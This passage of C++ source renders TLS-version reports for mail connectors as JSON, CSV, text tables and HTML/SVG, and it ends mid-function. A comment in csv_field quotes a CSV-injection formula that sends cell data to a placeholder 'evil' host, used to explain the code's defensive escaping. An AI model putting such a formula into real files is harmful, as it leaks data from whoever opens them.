#include "daemon/report.hpp"

#include <fmt/format.h>

#include <algorithm>
#include <set>

namespace mailflow {
namespace {

using config::ConnectorType;
using config::Direction;
using proto::TlsVersion;

constexpr std::array<std::string_view, 5> kVersionNames{"none", "TLS1.0", "TLS1.1", "TLS1.2", "TLS1.3"};
constexpr std::array<std::string_view, 5> kVersionColors{"#d32f2f", "#f57c00", "#ffb300", "#43a047",
                                                         "#1b5e20"};

std::string_view direction_title(Direction d) { return d == Direction::inbound ? "Inbound" : "Outbound"; }

// The words an administrator reads in a sentence.
std::string_view type_words(ConnectorType t) {
  switch (t) {
    case ConnectorType::partner:
      return "partner";
    case ConnectorType::onpremises:
      return "on-premises";
    case ConnectorType::internet:
      return "internet";
  }
  return "internet";
}

std::string one_decimal(double value) { return fmt::format("{:.1f}", value); }

std::uint64_t total_of(const TlsCounts& counts) {
  std::uint64_t total = 0;
  for (const auto c : counts) total += c;
  return total;
}

int window_days_of(const WindowStore& store) {
  // The config only allows whole days (1d..90d).
  return static_cast<int>(std::max<std::int64_t>(1, store.window().count() / 24));
}

std::string date_string(std::chrono::sys_days day) {
  const std::chrono::year_month_day ymd{day};
  return fmt::format("{:04}-{:02}-{:02}", static_cast<int>(ymd.year()), static_cast<unsigned>(ymd.month()),
                     static_cast<unsigned>(ymd.day()));
}

struct Entry {
  std::string name;
  Direction direction = Direction::inbound;
  ConnectorType type = ConnectorType::internet;
  bool forced_tls = false;
  bool configured = true;
  config::AlertThresholds alerts;
};

std::vector<Entry> entries_of(const WindowStore& store, const config::Config& config,
                              WindowStore::TimePoint now) {
  std::vector<Entry> entries;
  std::set<std::pair<std::string, Direction>, std::less<>> seen;
  const auto push = [&](Entry entry) {
    if (seen.emplace(entry.name, entry.direction).second) entries.push_back(std::move(entry));
  };
  for (const auto& c : config.connectors) push({c.name, c.direction, c.type, c.require_tls, true, c.alerts});
  for (const Direction d : {Direction::inbound, Direction::outbound}) {
    const bool has_listener = std::any_of(config.listeners.begin(), config.listeners.end(),
                                          [d](const config::Listener& l) { return l.direction == d; });
    if (has_listener) push({"internet", d, ConnectorType::internet, false, true, config.telemetry.defaults});
  }
  // History of connectors no longer configured. "internet" gets here only for a direction without a listener
  // (a reload removed it): no longer configured either, as its metrics say (no window or insight gauges).
  for (const auto& key : store.keys(now)) {  // already sorted
    push({key.connector, key.direction, ConnectorType::internet, false, false, config.telemetry.defaults});
  }
  return entries;
}

std::string pluralize(std::uint64_t n, std::string_view singular, std::string_view plural) {
  return format_thousands(n) + " " + std::string(n == 1 ? singular : plural);
}

void add_insights(std::vector<Insight>& out, const Entry& entry, const TlsCounts& counts, int window_days) {
  // A connector that is no longer configured raises nothing: nobody can act on it under that name, and its
  // mailflow_insight_active series is gone too.
  if (!entry.configured) return;
  const std::uint64_t total = total_of(counts);
  if (total == 0 || total < entry.alerts.min_messages) return;
  struct Kind {
    TlsVersion version;
    const char* insight;
    const char* what;
    double threshold;
  };
  const Kind kinds[] = {
      {TlsVersion::tls10, "significant_tls10", "significant TLS1.0 mail flow", entry.alerts.tls10_share},
      {TlsVersion::tls11, "significant_tls11", "significant TLS1.1 mail flow", entry.alerts.tls11_share},
      {TlsVersion::none, "significant_no_tls", "significant mail flow without TLS",
       entry.alerts.no_tls_share},
  };
  for (const Kind& kind : kinds) {
    const double share =
        static_cast<double>(counts[static_cast<std::size_t>(kind.version)]) / static_cast<double>(total);
    if (!(share > kind.threshold)) continue;
    Insight insight;
    insight.connector = entry.name;
    insight.direction = entry.direction;
    insight.insight = kind.insight;
    insight.share = share;
    insight.messages = total;
    insight.threshold = kind.threshold;
    // Its own share rounded (4 of 9 is 44.4%): the summary row, rounded with the other versions to add up to
    // 100.0, may show 0.1 more or less.
    insight.text = fmt::format("{} {} connector {} is seeing {}: {}% of {} in the last {}",
                               direction_title(entry.direction), type_words(entry.type), entry.name,
                               kind.what, one_decimal(share * 100.0), pluralize(total, "message", "messages"),
                               pluralize(static_cast<std::uint64_t>(window_days), "day", "days"));
    out.push_back(std::move(insight));
  }
}

}  // namespace

std::array<double, 5> tls_percent(const TlsCounts& counts) {
  std::array<double, 5> out{};
  const std::uint64_t total = total_of(counts);
  if (total == 0) return out;
  // In tenths of a percent, each rounded down, then the tenths left over to the largest remainders (ties in
  // version order): rounded each on its own, 2/7, 1/7, 1/7, 3/7 would show 28.6 + 14.3 + 14.3 + 42.9 = 100.1.
  std::array<std::uint64_t, 5> tenths{}, remainder{};
  std::uint64_t left = 1000;
  for (std::size_t i = 0; i < counts.size(); ++i) {
    tenths[i] = counts[i] / total * 1000 + counts[i] % total * 1000 / total;
    remainder[i] = counts[i] % total * 1000 % total;
    left -= tenths[i];
  }
  for (; left > 0; --left) {
    std::size_t largest = 0;
    for (std::size_t i = 1; i < counts.size(); ++i)
      if (remainder[i] > remainder[largest]) largest = i;
    ++tenths[largest];
    remainder[largest] = 0;
  }
  for (std::size_t i = 0; i < out.size(); ++i) out[i] = static_cast<double>(tenths[i]) / 10.0;
  return out;
}

std::string csv_field(std::string_view text) {
  // A cell that starts with = + - @ (or a tab or CR) is a formula to a spreadsheet: an EHLO name such as
  // =HYPERLINK("http://evil/?"&A2,"x") would run when the report is opened (CSV injection). Such a value gets a
  // leading ' (OWASP's advice), which spreadsheets show as text; a well-formed host name or address never starts so.
  const bool formula = !text.empty() && std::string_view("=+-@\t\r").find(text.front()) != std::string_view::npos;
  if (!formula && text.find_first_of(",\"\r\n") == std::string_view::npos) return std::string(text);
  std::string out = formula ? "\"'" : "\"";
  for (const char c : text) {
    if (c == '"') out += '"';
    out += c;
  }
  out += '"';
  return out;
}

std::string align_columns(const std::vector<std::vector<std::string>>& cells, const std::vector<bool>& right) {
  std::vector<std::size_t> width(right.size(), 0);
  for (const auto& line : cells)
    for (std::size_t i = 0; i < line.size(); ++i) width[i] = std::max(width[i], line[i].size());
  std::string out;
  for (const auto& line : cells) {
    std::string text;
    for (std::size_t i = 0; i < line.size(); ++i) {
      if (i != 0) text += "  ";
      const std::string pad(width[i] - line[i].size(), ' ');
      text += right[i] ? pad + line[i] : line[i] + pad;
    }
    while (!text.empty() && text.back() == ' ') text.pop_back();
    out += text;
    out += '\n';
  }
  return out;
}

std::string format_thousands(std::uint64_t value) {
  std::string digits = std::to_string(value);
  std::string out;
  out.reserve(digits.size() + digits.size() / 3);
  for (std::size_t i = 0; i < digits.size(); ++i) {
    if (i != 0 && (digits.size() - i) % 3 == 0) out += ',';
    out += digits[i];
  }
  return out;
}

std::string html_escape(std::string_view text) {
  std::string out;
  out.reserve(text.size());
  for (const char c : text) {
    switch (c) {
      case '&':
        out += "&amp;";
        break;
      case '<':
        out += "&lt;";
        break;
      case '>':
        out += "&gt;";
        break;
      case '"':
        out += "&quot;";
        break;
      case '\'':
        out += "&#39;";
        break;
      default:
        out += c;
    }
  }
  return out;
}

std::string rfc3339_utc(WindowStore::TimePoint t) {
  const auto seconds = std::chrono::floor<std::chrono::seconds>(t);
  const auto day = std::chrono::floor<std::chrono::days>(seconds);
  const std::chrono::hh_mm_ss<std::chrono::seconds> time{seconds - day};
  return fmt::format("{}T{:02}:{:02}:{:02}Z", date_string(day), time.hours().count(), time.minutes().count(),
                     time.seconds().count());
}

std::vector<Insight> compute_insights(const WindowStore& store, const config::Config& config,
                                      WindowStore::TimePoint now) {
  std::vector<Insight> out;
  const int window_days = window_days_of(store);
  for (const Entry& entry : entries_of(store, config, now))
    add_insights(out, entry, store.window_totals(entry.name, entry.direction, now), window_days);
  return out;
}

namespace {

// report.in_transit from report.connectors.
void add_in_transit(Report& report) {
  report.in_transit.clear();
  for (const Direction d : {Direction::inbound, Direction::outbound}) {
    TransitSummary transit;
    transit.direction = d;
    bool any = false;
    for (const ConnectorSummary& c : report.connectors) {
      if (c.direction != d) continue;
      any = true;
      transit.messages += c.messages;
      transit.tls += c.messages - c.counts[static_cast<std::size_t>(TlsVersion::none)];
      transit.tls12_plus += c.counts[static_cast<std::size_t>(TlsVersion::tls12)] +
                            c.counts[static_cast<std::size_t>(TlsVersion::tls13)];
    }
    if (any) report.in_transit.push_back(transit);
  }
}

}  // namespace

Report build_report(const WindowStore& store, const config::Config& config, int days,
                    WindowStore::TimePoint now) {
  Report report;
  report.generated_at = rfc3339_utc(now);
  report.window_days = window_days_of(store);
  report.days = std::clamp(days, 1, report.window_days);

  const std::vector<Entry> entries = entries_of(store, config, now);
  const auto today = std::chrono::floor<std::chrono::days>(now);
  // No zero rows for days before the first message in the window: the daemon (or its state) did not exist.
  int shown_days = 1;
  if (const auto first = store.first_data(now)) {
    const auto first_day = std::chrono::floor<std::chrono::days>(*first);
    shown_days = std::clamp(static_cast<int>((today - first_day).count()) + 1, 1, report.days);
  }
  report.rows.reserve(entries.size() * static_cast<std::size_t>(shown_days));
  for (int back = 0; back < shown_days; ++back) {  // newest first: today is what an administrator looks for
    const std::chrono::sys_days day = today - std::chrono::days(back);
    const std::string date = date_string(day);
    for (const Entry& entry : entries) {
      const TlsCounts counts = store.day_totals(entry.name, entry.direction, day, now);
      ReportRow row;
      row.date = date;
      row.connector = entry.name;
      row.direction = entry.direction;
      row.type = entry.type;
      row.forced_tls = entry.forced_tls;
      row.configured = entry.configured;
      row.messages = total_of(counts);
      row.counts = counts;
      row.percent = tls_percent(counts);
      report.rows.push_back(std::move(row));
    }
  }
  for (const Entry& entry : entries) {
    const TlsCounts counts = store.window_totals(entry.name, entry.direction, now);
    add_insights(report.insights, entry, counts, report.window_days);
    ConnectorSummary summary;
    summary.connector = entry.name;
    summary.direction = entry.direction;
    summary.type = entry.type;
    summary.forced_tls = entry.forced_tls;
    summary.configured = entry.configured;
    summary.messages = total_of(counts);
    summary.counts = counts;
    summary.percent = tls_percent(counts);
    report.connectors.push_back(std::move(summary));
  }
  add_in_transit(report);
  return report;
}

bool keep_only_connector(Report& report, std::string_view connector) {
  const auto other = [&](const auto& item) { return item.connector != connector; };
  if (std::all_of(report.connectors.begin(), report.connectors.end(), other)) return false;
  std::erase_if(report.connectors, other);
  std::erase_if(report.rows, other);
  std::erase_if(report.insights, other);
  std::erase_if(report.drilldowns, other);
  add_in_transit(report);
  return true;
}

namespace {

std::string counts_json(const TlsCounts& counts) {
  std::string out = "{";
  for (std::size_t i = 0; i < kVersionNames.size(); ++i)
    out += fmt::format("{}\"{}\": {}", i == 0 ? "" : ", ", kVersionNames[i], counts[i]);
  out += '}';
  return out;
}

std::string percent_json(const std::array<double, 5>& percent) {
  std::string out = "{";
  for (std::size_t i = 0; i < kVersionNames.size(); ++i)
    out += fmt::format("{}\"{}\": {}", i == 0 ? "" : ", ", kVersionNames[i], one_decimal(percent[i]));
  out += '}';
  return out;
}

double share_of(std::uint64_t part, std::uint64_t total) {
  return total == 0 ? 0.0 : static_cast<double>(part) / static_cast<double>(total);
}

// No messages is no share at all: null, as the table and the page say "no messages in the window" (a 0
// would say that every message went without TLS).
std::string share_json(std::uint64_t part, std::uint64_t total) {
  return total == 0 ? "null" : fmt::format("{}", share_of(part, total));
}

// "connectors" and "in_transit", the whole-window part of the JSON report.
std::string summary_json_members(const Report& report) {
  std::string out = "\"connectors\": [";
  bool first = true;
  for (const ConnectorSummary& c : report.connectors) {
    if (!first) out += ",\n  ";
    first = false;
    out += fmt::format(
        "{{\"connector\": \"{}\", \"direction\": \"{}\", \"type\": \"{}\", \"forced_tls\": {}, \"configured\": {}, "
        "\"messages\": {}, \"counts\": {}, \"percent\": {}",
        json_escape(c.connector), config::to_string(c.direction), config::to_string(c.type),
        c.forced_tls ? "true" : "false", c.configured ? "true" : "false", c.messages, counts_json(c.counts),
        percent_json(c.percent));
    append_drilldown_members(out, report, c.connector, c.direction);  // report_remotes.cpp
    out += "}";
  }
  out += "],\n \"in_transit\": [";
  first = true;
  for (const TransitSummary& t : report.in_transit) {
    if (!first) out += ",\n  ";
    first = false;
    out += fmt::format(
        "{{\"direction\": \"{}\", \"messages\": {}, \"tls\": {}, \"tls12_plus\": {}, \"tls_share\": {}, "
        "\"tls12_plus_share\": {}}}",
        config::to_string(t.direction), t.messages, t.tls, t.tls12_plus, share_json(t.tls, t.messages),
        share_json(t.tls12_plus, t.messages));
  }
  out += "]";
  return out;
}

// One cell per TLS version: "128 (12.5%)", or "0" without messages.
std::string count_cell(std::uint64_t count, double percent, std::uint64_t messages) {
  if (messages == 0) return "0";
  return fmt::format("{} ({}%)", format_thousands(count), one_decimal(percent));
}


// The TYPE column for a human: a connector that left the config is "removed", not the "internet" its JSON says.
std::string table_type(config::ConnectorType type, bool configured) {
  return configured ? std::string(config::to_string(type)) : "removed";
}

std::string summary_table_body(const Report& report) {
  std::vector<std::vector<std::string>> cells;
  cells.push_back({"CONNECTOR", "DIRECTION", "TYPE", "FORCED_TLS", "MESSAGES", "NONE", "TLS1.0", "TLS1.1", "TLS1.2",
                   "TLS1.3"});
  for (const ConnectorSummary& c : report.connectors) {
    std::vector<std::string> line{c.connector, std::string(config::to_string(c.direction)),
                                  table_type(c.type, c.configured), c.forced_tls ? "yes" : "no",
                                  format_thousands(c.messages)};
    for (std::size_t i = 0; i < c.counts.size(); ++i) line.push_back(count_cell(c.counts[i], c.percent[i], c.messages));
    cells.push_back(std::move(line));
  }
  std::string out = align_columns(cells, {false, false, false, false, true, true, true, true, true, true});
  for (const TransitSummary& t : report.in_transit) {
    // No messages is no share at all: "0.0% with TLS" would say that mail went without it (the page says so too).
    if (t.messages == 0) {
      out += fmt::format("{} protected in transit: no messages in the window\n", direction_title(t.direction));
      continue;
    }
    out += fmt::format("{} protected in transit: {}% with TLS, {}% with TLS1.2 or later ({} of {})\n",
                       direction_title(t.direction), one_decimal(100.0 * share_of(t.tls, t.messages)),
                       one_decimal(100.0 * share_of(t.tls12_plus, t.messages)),
                       format_thousands(t.tls12_plus), pluralize(t.messages, "message", "messages"));
  }
  return out;
}

std::string window_words(const Report& report) {
  return fmt::format("window {} {}, generated {}", report.window_days, report.window_days == 1 ? "day" : "days",
                     report.generated_at);
}

}  // namespace

std::string render_json(const Report& report) {
  std::string out;
  out.reserve(512 + report.rows.size() * 300 + report.connectors.size() * 300);
  out += fmt::format("{{\"generated_at\": \"{}\", \"days\": {},\n \"rows\": [",
                     json_escape(report.generated_at), report.days);
  bool first = true;
  for (const ReportRow& row : report.rows) {
    if (!first) out += ",\n  ";
    first = false;
    out += fmt::format(
        "{{\"date\": \"{}\", \"connector\": \"{}\", \"direction\": \"{}\", \"type\": \"{}\", \"forced_tls\": "
        "{}, \"messages\": {}, \"percent\": {}, \"counts\": {}, \"configured\": {}}}",
        json_escape(row.date), json_escape(row.connector), config::to_string(row.direction),
        config::to_string(row.type), row.forced_tls ? "true" : "false", row.messages, percent_json(row.percent),
        counts_json(row.counts), row.configured ? "true" : "false");
  }
  out += "],\n \"insights\": [";
  first = true;
  for (const Insight& insight : report.insights) {
    if (!first) out += ",\n  ";
    first = false;
    out += fmt::format(
        "{{\"connector\": \"{}\", \"direction\": \"{}\", \"insight\": \"{}\", \"share\": {}, \"messages\": "
        "{}, "
        "\"threshold\": {}, \"text\": \"{}\"}}",
        json_escape(insight.connector), config::to_string(insight.direction), json_escape(insight.insight),
        insight.share, insight.messages, insight.threshold, json_escape(insight.text));
  }
  out += fmt::format("],\n \"window_days\": {},\n ", report.window_days);
  out += summary_json_members(report);
  out += "}\n";
  return out;
}

std::string render_summary_json(const Report& report) {
  return fmt::format("{{\"generated_at\": \"{}\", \"window_days\": {},\n {}}}\n", json_escape(report.generated_at),
                     report.window_days, summary_json_members(report));
}

std::string render_csv(const Report& report) {
  std::string out =
      "date,connector,direction,type,forced_tls,messages,none_pct,tls10_pct,tls11_pct,tls12_pct,tls13_pct,"
      "none_count,tls10_count,tls11_count,tls12_count,tls13_count,configured\n";
  for (const ReportRow& row : report.rows) {
    out += fmt::format("{},{},{},{},{},{}", csv_field(row.date), csv_field(row.connector),
                       config::to_string(row.direction), config::to_string(row.type),
                       row.forced_tls ? "true" : "false", row.messages);
    for (const double p : row.percent) {
      out += ',';
      out += one_decimal(p);
    }
    for (const std::uint64_t c : row.counts) out += fmt::format(",{}", c);
    out += row.configured ? ",true\n" : ",false\n";
  }
  return out;
}

std::string render_summary_csv(const Report& report) {
  std::string out =
      "connector,direction,type,forced_tls,configured,messages,none_pct,tls10_pct,tls11_pct,tls12_pct,tls13_pct,"
      "none_count,tls10_count,tls11_count,tls12_count,tls13_count\n";
  for (const ConnectorSummary& c : report.connectors) {
    out += fmt::format("{},{},{},{},{},{}", csv_field(c.connector), config::to_string(c.direction),
                       config::to_string(c.type), c.forced_tls ? "true" : "false", c.configured ? "true" : "false",
                       c.messages);
    for (const double p : c.percent) out += "," + one_decimal(p);
    for (const std::uint64_t n : c.counts) out += fmt::format(",{}", n);
    out += '\n';
  }
  return out;
}

std::string render_summary_table(const Report& report) {
  return fmt::format("Connector summary (UTC), whole {}\n\n", window_words(report)) + summary_table_body(report);
}

std::string render_table(const Report& report) {
  std::string out = fmt::format("Connector report (UTC), {}\n\n", window_words(report));
  out += "Whole window:\n";
  out += summary_table_body(report);
  const int shown = static_cast<int>(report.rows.size() / std::max<std::size_t>(1, report.connectors.size()));
  const bool empty = std::all_of(report.connectors.begin(), report.connectors.end(),
                                 [](const ConnectorSummary& c) { return c.messages == 0; });
  std::string left_out;
  if (empty && shown < report.days)
    left_out = " (no messages in the window yet: today only)";  // there is no first message to count back to
  else if (shown < report.days)
    left_out = fmt::format(" ({} before the first message left out)",
                           pluralize(static_cast<std::uint64_t>(report.days - shown), "day", "days"));
  out += fmt::format("\nPer day, newest first: last {} {}{}\n", report.days, report.days == 1 ? "day" : "days",
                     left_out);
  std::vector<std::vector<std::string>> cells;
  cells.push_back({"DATE", "CONNECTOR", "DIRECTION", "TYPE", "FORCED_TLS", "MESSAGES", "NONE", "TLS1.0", "TLS1.1",
                   "TLS1.2", "TLS1.3"});
  for (const ReportRow& row : report.rows) {
    std::vector<std::string> line{row.date,
                                  row.connector,
                                  std::string(config::to_string(row.direction)),
                                  table_type(row.type, row.configured),
                                  row.forced_tls ? "yes" : "no",
                                  format_thousands(row.messages)};
    for (std::size_t i = 0; i < row.counts.size(); ++i)
      line.push_back(count_cell(row.counts[i], row.percent[i], row.messages));
    cells.push_back(std::move(line));
  }
  out += align_columns(cells, {false, false, false, false, false, true, true, true, true, true, true});
  out += '\n';
  if (report.insights.empty()) {
    out += "No active insights.\n";
  } else {
    out += "Insights:\n";
    for (const Insight& insight : report.insights) out += "  - " + insight.text + "\n";
    out += "Get the servers behind these connectors to TLS1.2 or later before TLS1.0/1.1 are switched off.\n";
  }
  return out;
}

namespace {

// A stacked horizontal bar, one rect per TLS version, widths in a 0..1000 viewBox that scales to the cell.
std::string svg_bar(const std::array<double, 5>& percent, std::uint64_t messages) {
  std::string label;
  for (std::size_t i = 0; i < percent.size(); ++i)
    label += fmt::format("{}{} {}%", i == 0 ? "" : ", ", kVersionNames[i], one_decimal(percent[i]));
  std::string out = fmt::format(
      "<svg class=\"bar\" viewBox=\"0 0 1000 24\" preserveAspectRatio=\"none\" role=\"img\" "
      "aria-label=\"{}\">",
      html_escape(messages == 0 ? "no messages" : label));
  if (messages == 0) {
    out +=
        "<rect x=\"0\" y=\"0\" width=\"1000\" height=\"24\" fill=\"#e5e7eb\"><title>no "
        "messages</title></rect>";
  } else {
    double x = 0;
    for (std::size_t i = 0; i < percent.size(); ++i) {
      const double w = percent[i] * 10.0;
      if (w <= 0) continue;
      out += fmt::format(
          "<rect x=\"{:.2f}\" y=\"0\" width=\"{:.2f}\" height=\"24\" fill=\"{}\"><title>{} "
          "{}%</title></rect>",
          x, w, kVersionColors[i], kVersionNames[i], one_decimal(percent[i]));
      x += w;
    }
  }
  out += "</svg>";
  return out;
}

std::string legend() {
  std::string out = "<div class=\"legend\">";
  for (std::size_t i = 0; i < kVersionNames.size(); ++i)
    out += fmt::format(
        "<span><svg width=\"12\" height=\"12\" aria-hidden=\"true\"><rect width=\"12\" height=\"12\" "
        "rx=\"2\" "
        "fill=\"{}\"/></svg> {}</span>",
        kVersionColors[i], html_escape(kVersionNames[i]));
  out += "</div>";
  return out;
}

constexpr std::string_view kStyle = R"css(
:root { color-scheme: light; }
* { box-sizing: border-box; }
body { margin: 0; background: #f4f5f7; color: #1f2328;
  font: 14px/1.45 system-ui, -apple-system, "Segoe UI", Roboto, "Helvetica Neue", Arial, sans-serif; }
header { background: #1f2937; color: #f9fafb; padding: 18px 32px; }
header h1 { margin: 0; font-size: 20px; font-weight: 600; }
header p { margin: 4px 0 0; color: #cbd5e1; }
main { max-width: 1200px; margin: 0 auto; padding: 24px 32px 48px; }
section { background: #fff; border: 1px solid #e5e7eb; border-radius: 8px; padding: 16px 20px; margin-bottom: 24px; }
h2 { font-size: 16px; margin: 0 0 12px; }
.insight { border-left: 4px solid #d32f2f; background: #fdecea; padding: 8px 12px; margin: 8px 0; border-radius: 4px; }
.insight.tls10 { border-color: #f57c00; background: #fff3e0; }
.ok { border-left: 4px solid #43a047; background: #e8f5e9; padding: 8px 12px; border-radius: 4px; margin: 0; }
.advice { color: #374151; margin: 12px 0 0; }
table { border-collapse: collapse; width: 100%; }
th, td { text-align: left; padding: 6px 10px; border-bottom: 1px solid #eef0f3; vertical-align: middle;
  white-space: nowrap; }
td.barcell { white-space: normal; width: 45%; }
th { background: #f9fafb; font-weight: 600; color: #374151; position: sticky; top: 0; }
td.num, th.num { text-align: right; font-variant-numeric: tabular-nums; }
tr.zero td { color: #9ca3af; }
details.drilldown { border-top: 1px solid #eef0f3; padding: 6px 0; }
details.drilldown summary { cursor: pointer; padding: 4px 0; }
details.drilldown table { margin: 8px 0 12px; }
tr.fix td:first-child { border-left: 3px solid #d32f2f; }
td.bad { color: #b71c1c; font-weight: 600; }
td.warn { color: #e65100; font-weight: 600; }
.bar { display: block; width: 100%; min-width: 240px; height: 18px; border-radius: 3px; }
.pct { color: #4b5563; font-size: 12px; margin-top: 2px; font-variant-numeric: tabular-nums; }
.pct span { white-space: nowrap; }
.legend { display: flex; gap: 16px; flex-wrap: wrap; margin-bottom: 12px; color: #374151; }
.legend span { display: inline-flex; align-items: center; gap: 6px; }
.tag { display: inline-block; padding: 0 6px; border-radius: 10px; background: #eef2ff; color: #3730a3; font-size: 12px; }
.tag.removed { background: #f3f4f6; color: #6b7280; }
footer { color: #6b7280; font-size: 12px; text-align: center; }
.transit-row { display: flex; gap: 16px; flex-wrap: wrap; }
.transit { flex: 1 1 260px; border: 1px solid #e5e7eb; border-radius: 8px; padding: 12px 16px; }
.transit h3 { margin: 0 0 6px; font-size: 14px; color: #374151; }
.transit .big { font-size: 28px; font-weight: 600; font-variant-numeric: tabular-nums; }
.transit .sub { color: #4b5563; font-variant-numeric: tabular-nums; }
.insight.tls11 { border-color: #ffb300; background: #fff8e1; }
.trends { display: grid; grid-template-columns: repeat(auto-fill, minmax(460px, 1fr)); gap: 8px 24px; }
.trend { margin: 4px 0 12px; }
.trend h3 { font-size: 14px; margin: 0 0 4px; }
.trend svg { display: block; width: 100%; height: auto; }
.trend text { font: 22px system-ui, sans-serif; fill: #6b7280; }
tr.quiet td { color: #6b7280; font-style: italic; text-align: center; }
)css";

std::string_view insight_class(std::string_view insight) {
  if (insight == "significant_tls10") return "tls10";
  if (insight == "significant_tls11") return "tls11";
  return "notls";
}

// Overall inbound / outbound "protected in transit" over the window, at the top of the page.
std::string transit_section(const Report& report) {
  std::string out = "<section id=\"transit\"><h2>Protected in transit (whole window)</h2>\n<div class=\"transit-row\">";
  for (const TransitSummary& t : report.in_transit) {
    const double tls = 100.0 * share_of(t.tls, t.messages);
    const double modern = 100.0 * share_of(t.tls12_plus, t.messages);
    out += fmt::format(
        "<div class=\"transit\" data-direction=\"{0}\" data-messages=\"{1}\" data-tls=\"{2}\" data-tls12-plus=\"{3}\">"
        "<h3>{4} mail</h3>",
        config::to_string(t.direction), t.messages, t.tls, t.tls12_plus, direction_title(t.direction));
    if (t.messages == 0) {
      out += "<div class=\"big\">&ndash;</div><div class=\"sub\">no messages in the window</div></div>";
      continue;
    }
    out += fmt::format(
        "<div class=\"big\"><span class=\"tls-pct\">{0}%</span> with TLS</div>"
        "<div class=\"sub\"><span class=\"tls12-pct\">{1}%</span> with TLS1.2 or later &middot; {2}</div>"
        "<svg class=\"bar\" viewBox=\"0 0 1000 24\" preserveAspectRatio=\"none\" role=\"img\" "
        "aria-label=\"{0}% with TLS, {1}% with TLS1.2 or later\">"
        "<rect x=\"0\" y=\"0\" width=\"{3:.2f}\" height=\"24\" fill=\"{5}\"><title>TLS1.2 or later {1}%</title></rect>"
        "<rect x=\"{3:.2f}\" y=\"0\" width=\"{4:.2f}\" height=\"24\" fill=\"{6}\"><title>TLS1.0/1.1 {7}%</title></rect>"
        "<rect x=\"{8:.2f}\" y=\"0\" width=\"{9:.2f}\" height=\"24\" fill=\"{10}\"><title>no TLS {11}%</title></rect>"
        "</svg></div>",
        one_decimal(tls), one_decimal(modern), pluralize(t.messages, "message", "messages"), modern * 10.0,
        (tls - modern) * 10.0, kVersionColors[static_cast<std::size_t>(TlsVersion::tls12)],
        kVersionColors[static_cast<std::size_t>(TlsVersion::tls10)], one_decimal(tls - modern), tls * 10.0,
        (100.0 - tls) * 10.0, kVersionColors[static_cast<std::size_t>(TlsVersion::none)], one_decimal(100.0 - tls));
  }
  out += "</div>\n</section>\n";
  return out;
}

// Per connector, one stacked bar per day (oldest on the left) of its TLS-version shares: drawn here as inline SVG,
// so the page stays one self-contained file without JavaScript; every bar has a <title> and an aria-label.
std::string trend_chart(const Report& report, const ConnectorSummary& c) {
  std::vector<const ReportRow*> days;  // oldest first
  for (auto it = report.rows.rbegin(); it != report.rows.rend(); ++it)
    if (it->connector == c.connector && it->direction == c.direction) days.push_back(&*it);
  constexpr double kLeft = 84, kRight = 992, kTop = 12, kHeight = 260, kWidth = 1000, kBottom = 310;
  const double slot = (kRight - kLeft) / static_cast<double>(std::max<std::size_t>(1, days.size()));
  const double bar = std::min(56.0, slot * 0.72);
  const std::size_t label_every = std::max<std::size_t>(1, (days.size() + 9) / 10);
  std::string out = fmt::format(
      "<figure class=\"trend\" data-connector=\"{0}\" data-direction=\"{1}\"><h3>{0} <span class=\"tag\">{1}</span>{4}"
      "</h3><svg viewBox=\"0 0 {2} {3}\" role=\"group\" aria-label=\"Daily TLS versions of {0} ({1}), oldest day "
      "first\">",
      html_escape(c.connector), config::to_string(c.direction), kWidth, kBottom,
      c.configured ? "" : " <span class=\"tag removed\">removed from config</span>");
  for (const int pct : {0, 50, 100}) {
    const double y = kTop + kHeight - kHeight * pct / 100.0;
    out += fmt::format(
        "<line x1=\"{0}\" x2=\"{1}\" y1=\"{2:.1f}\" y2=\"{2:.1f}\" stroke=\"#e5e7eb\"/>"
        "<text x=\"{3}\" y=\"{4:.1f}\" text-anchor=\"end\">{5}%</text>",
        kLeft, kRight, y, kLeft - 8, y + 7, pct);
  }
  for (std::size_t d = 0; d < days.size(); ++d) {
    const ReportRow& row = *days[d];
    const double x = kLeft + slot * static_cast<double>(d) + (slot - bar) / 2;
    std::string label = fmt::format("{}: {}", row.date, pluralize(row.messages, "message", "messages"));
    if (row.messages != 0) {
      for (std::size_t i = 0; i < row.percent.size(); ++i)
        label += fmt::format("{}{} {}%", i == 0 ? "; " : ", ", kVersionNames[i], one_decimal(row.percent[i]));
    }
    out += fmt::format("<g class=\"day\" data-date=\"{}\" data-messages=\"{}\" role=\"img\" aria-label=\"{}\"><title>{}</title>",
                       row.date, row.messages, html_escape(label), html_escape(label));
    if (row.messages == 0) {
      out += fmt::format("<rect x=\"{:.1f}\" y=\"{:.1f}\" width=\"{:.1f}\" height=\"4\" fill=\"#d1d5db\"/>", x,
                         kTop + kHeight - 4, bar);
    } else {
      // Stacked from the bottom: TLS1.3 first, so the versions to fix sit on top where the eye lands.
      double y = kTop + kHeight;
      for (std::size_t k = row.counts.size(); k-- > 0;) {
        if (row.counts[k] == 0) continue;
        const double h = kHeight * static_cast<double>(row.counts[k]) / static_cast<double>(row.messages);
        y -= h;
        out += fmt::format(
            "<rect class=\"v\" data-version=\"{0}\" x=\"{1:.1f}\" y=\"{2:.2f}\" width=\"{3:.1f}\" height=\"{4:.2f}\" "
            "fill=\"{5}\"><title>{6}: {0} {7}% ({8})</title></rect>",
            kVersionNames[k], x, y, bar, h, kVersionColors[k], row.date, one_decimal(row.percent[k]),
            pluralize(row.counts[k], "message", "messages"));
      }
    }
    out += "</g>";
    if (d % label_every == 0 || d + 1 == days.size())
      out += fmt::format("<text x=\"{:.1f}\" y=\"{}\" text-anchor=\"middle\">{}</text>", x + bar / 2, kBottom - 12,
                         row.date.substr(5));
  }
  out += "</svg></figure>\n";
  return out;
}

std::string trend_section(const Report& report) {
  std::string out = "<section id=\"trend\"><h2>Daily trend per connector (UTC, oldest day on the left)</h2>\n";
  out += legend();
  out += "<div class=\"trends\">\n";
  // A chart per busy connector, in connector order; past kMaxCharts the page would only grow, not inform.
  constexpr std::size_t kMaxCharts = 50;
  std::size_t charts = 0, left_out = 0;
  for (const ConnectorSummary& c : report.connectors) {
    if (c.messages == 0) continue;
    if (charts == kMaxCharts) {
      ++left_out;
      continue;
    }
    ++charts;
    out += trend_chart(report, c);
  }
  out += "</div>\n";
  if (charts == 0) out += "<p class=\"ok\">No messages in the window yet.</p>\n";
  if (left_out != 0)
    out += fmt::format("<p class=\"advice\">{} more connectors with messages: see the tables.</p>\n", left_out);
  out += "</section>\n";
  return out;
}

// The days, newest first. Connectors without messages on a day are left out, and a run of days without any
// message is one line: the table shows traffic, not zeros.
std::string daily_section(const Report& report) {
  std::string out = fmt::format(
